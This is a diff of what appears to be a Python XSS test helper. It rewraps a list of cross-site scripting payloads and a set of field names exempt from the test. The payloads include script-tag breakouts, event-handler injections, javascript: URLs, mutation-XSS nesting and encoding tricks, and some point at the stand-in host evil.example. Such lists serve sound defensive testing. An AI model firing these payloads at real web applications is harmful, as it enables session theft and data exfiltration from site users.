@@ -13,7 +13,8 @@ PAYLOADS = [
     f"</textarea><script>{RUN}</script>", f'" autofocus onfocus="{RUN}" x="', f"javascript:{RUN}//",
     f"</script><script>{RUN}</script>", f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;",
     f"<iframe srcdoc='<script>parent.{RUN}</script>'>", f'"}}]</script><script>{RUN}</script>',
-    f"\\u003cimg src=x onerror={RUN}\\u003e", f"--><img src=x onerror={RUN}>", f"＜script＞{RUN}＜/script＞\u2028\u2029<b",
+    f"\\u003cimg src=x onerror={RUN}\\u003e", f"--><img src=x onerror={RUN}>",
+    f"＜script＞{RUN}＜/script＞\u2028\u2029<b",
     "</title></style><style>@import'//evil.example'</style>",
     f"<a href=javascript:{RUN}>x</a><form action=//evil.example><button>x",
     f"{{{{{RUN}}}}}<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
@@ -22,7 +23,8 @@ SHORT = [f"<svg onload={RUN}>", "'\"><b>", '"><i>', "<x>", "<"]
 # What is no text of a person: names by which rows are found, what is matched, what a library reads back as code.
 KEPT = {
     "key", "slug", "status", "role", "email", "username", "password", "language", "content_type", "codename",
-    "app_label", "model", "country", "colour", "pgh_label", "side", "step", "start_step", "gait_strategy", "proposal", "from_phase",
+    "app_label", "model", "country", "colour", "pgh_label", "side", "step", "start_step", "gait_strategy", "proposal",
+    "from_phase",
     "to_phase", "strength", "type", "measure_key", "table_name", "row_key", "checksum", "source_key", "client_key",
     "idempotency_key", "request_id", "digest", "code_digest", "link_digest", "session_key", "national_number",
     "nihdi_number", "part",
